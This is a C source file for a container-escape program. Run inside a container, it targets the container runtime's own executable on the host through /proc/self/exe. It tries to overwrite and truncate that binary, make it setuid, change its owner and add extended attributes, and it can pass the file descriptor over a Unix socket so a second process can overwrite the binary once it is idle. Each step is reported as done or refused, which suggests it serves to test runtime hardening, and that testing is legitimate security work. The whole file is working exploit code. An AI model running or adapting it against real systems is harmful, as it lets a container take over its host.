/*
 * What a container does to the program file of the runtime, once it has got at
 * it: all that might change a file for others, by each way that the kernel has.
 *
 *     program FILE…            changes these files
 *     program -s SOCKET FILE   sends a descriptor of FILE to that socket
 *     program -r SOCKET        receives one there; changes and overwrites it, as
 *                              soon as no process executes it
 *     program -x FILE          says how many extended attributes it has
 *
 * Named as the dynamic loader it is what the kernel starts when a program of
 * the host's is executed in here: then /proc/self/exe is changed, and sent to
 * the socket /v/s if there is one. No C library: a loader is started before
 * there is one.
 *
 *     gcc -static -nostdlib -fno-stack-protector -o loader attack-program.c
 */
#include <fcntl.h>
#include <stddef.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>

static long
call(long number, long a, long b, long c, long d, long e)
{
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
	return result;
}

static size_t
length(const char *text)
{
	size_t n = 0;

	while (text[n] != '\0')
		n++;
	return n;
}

static void
say(const char *text)
{
	call(SYS_write, 1, (long)text, length(text), 0, 0);
}

static void
tell(const char *what, long result)
{
	say(what);
	say(result >= 0 ? ": done\n" : ": refused\n");
}

static void
nap(void)
{
	const struct timespec moment = { .tv_nsec = 10000000 };

	call(SYS_nanosleep, (long)&moment, 0, 0, 0, 0);
}

static void
overwrite(const char *path)
{
	long fd = call(SYS_open, (long)path, O_WRONLY, 0, 0, 0);

	tell("write", fd < 0 ? fd : call(SYS_write, fd, (long)"owned", 5, 0, 0));
	tell("truncate", call(SYS_truncate, (long)path, 5, 0, 0, 0));
}

/* These need no descriptor that may write. */
static void
change(const char *path)
{
	long fd = call(SYS_open, (long)path, O_RDONLY, 0, 0, 0);

	say(path);
	tell(" open", fd);
	overwrite(path);
	tell("fsetxattr", call(SYS_fsetxattr, fd, (long)"user.owned",
			      (long)"1", 1, 0));
	tell("setxattr", call(SYS_setxattr, (long)path, (long)"user.owned2",
			     (long)"1", 1, 0));
	tell("fchmod", call(SYS_fchmod, fd, 04755, 0, 0, 0));
	tell("chmod", call(SYS_chmod, (long)path, 04755, 0, 0, 0));
	tell("fchown", call(SYS_fchown, fd, 1, 1, 0, 0));
	tell("chown", call(SYS_chown, (long)path, 1, 1, 0, 0));
	tell("futimens", call(SYS_utimensat, fd, 0, 0, 0, 0));
}

union control {
	char buffer[CMSG_SPACE(sizeof(int))];
	struct cmsghdr align;
};

static long
connect_or_bind(long number, const char *path, long *fd)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };

	for (size_t i = 0; path[i] != '\0'; i++)
		address.sun_path[i] = path[i];
	*fd = call(SYS_socket, AF_UNIX, SOCK_DGRAM, 0, 0, 0);
	return call(number, *fd, (long)&address, sizeof(address), 0, 0);
}

static void
send_file(const char *path, const char *file)
{
	union control control = { 0 };
	struct iovec data = { "", 1 };
	struct msghdr header = { .msg_iov = &data, .msg_iovlen = 1,
		.msg_control = control.buffer,
		.msg_controllen = sizeof(control.buffer) };
	long end;

	int fd = call(SYS_open, (long)file, O_PATH, 0, 0, 0);
	if (connect_or_bind(SYS_connect, path, &end) < 0)
		return;
	control.align.cmsg_level = SOL_SOCKET;
	control.align.cmsg_type = SCM_RIGHTS;
	control.align.cmsg_len = CMSG_LEN(sizeof(fd));
	*(int *)(control.buffer + CMSG_LEN(0)) = fd;
	tell("send", call(SYS_sendmsg, end, (long)&header, 0, 0, 0));
}

/* ETXTBSY ends with the last process that executes the file. */
static void
await_idle(const char *path)
{
	for (int i = 0; i < 500; i++) {
		long fd = call(SYS_open, (long)path, O_WRONLY, 0, 0, 0);
		if (fd != -26) {
			call(SYS_close, fd, 0, 0, 0, 0);
			return;
		}
		nap();
	}
}

static void
receive_file(const char *path)
{
	static char link[] = "/proc/self/fd/0";
	union control control = { 0 };
	char byte;
	struct iovec data = { &byte, 1 };
	struct msghdr header = { .msg_iov = &data, .msg_iovlen = 1,
		.msg_control = control.buffer,
		.msg_controllen = sizeof(control.buffer) };
	long end;

	tell("bind", connect_or_bind(SYS_bind, path, &end));
	call(SYS_chmod, (long)path, 0777, 0, 0, 0);
	tell("receive", call(SYS_recvmsg, end, (long)&header, 0, 0, 0));
	link[sizeof(link) - 2] += *(int *)(control.buffer + CMSG_LEN(0));
	await_idle(link);
	change(link);
	say("over\n");
}

static int
is(const char *one, const char *other)
{
	while (*one != '\0' && *one == *other)
		one++, other++;
	return *one == *other;
}

void
start(char **stack)
{
	char **argv = stack + 1, names[1000];

	if ((long)stack[0] == 1) {
		change("/proc/self/exe");
		send_file("/v/s", "/proc/self/exe");
	} else if (is(argv[1], "-s")) {
		send_file(argv[2], argv[3]);
	} else if (is(argv[1], "-r")) {
		receive_file(argv[2]);
	} else if (is(argv[1], "-x")) {
		tell("listxattr", -(call(SYS_listxattr, (long)argv[2],
				        (long)names, sizeof(names), 0, 0) > 0));
	} else {
		for (char **file = argv + 1; *file != NULL; file++)
			change(*file);
	}
	call(SYS_exit, 0, 0, 0, 0, 0);
}

__asm__(".globl _start\n_start: mov %rsp, %rdi\nand $-16, %rsp\ncall start\n");
